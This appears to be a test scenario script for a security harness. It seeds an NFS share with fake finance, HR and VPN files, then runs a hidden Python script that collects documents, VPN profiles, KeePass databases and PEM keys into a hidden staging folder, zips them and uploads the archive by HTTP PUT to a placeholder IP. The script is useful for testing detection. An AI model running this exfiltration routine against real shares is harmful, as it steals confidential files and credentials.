#!/bin/sh
. /opt/case/case.sh

mkdir -p /mnt/nfs/finance /mnt/nfs/hr /mnt/nfs/it && for n in $(seq 1 40); do head -c 4000 /dev/urandom | base64 >/mnt/nfs/finance/q$n.xlsx; head -c 3000 /dev/urandom | base64 >/mnt/nfs/hr/p$n.docx; done; echo bait >/mnt/nfs/it/vpn.ovpn
cat >/tmp/.share.py <<'END'
import os, shutil, urllib.request as u
os.makedirs("/dev/shm/.s", exist_ok=True); n = 0
for d, _, fs in os.walk("/mnt/nfs"):
    for f in fs:
        if f.rsplit(".", 1)[-1] in ("xlsx", "docx", "pdf", "ovpn", "kdbx", "pem"): shutil.copy(os.path.join(d, f), f"/dev/shm/.s/{n}-{f}"); n += 1
z = shutil.make_archive("/dev/shm/.a", "zip", "/dev/shm/.s"); shutil.rmtree("/dev/shm/.s")
assert n == 81 and u.urlopen(u.Request("http://203.0.113.10:8080/s.zip", open(z, "rb").read(), method="PUT")).status == 200
END
python3 /tmp/.share.py
took_place
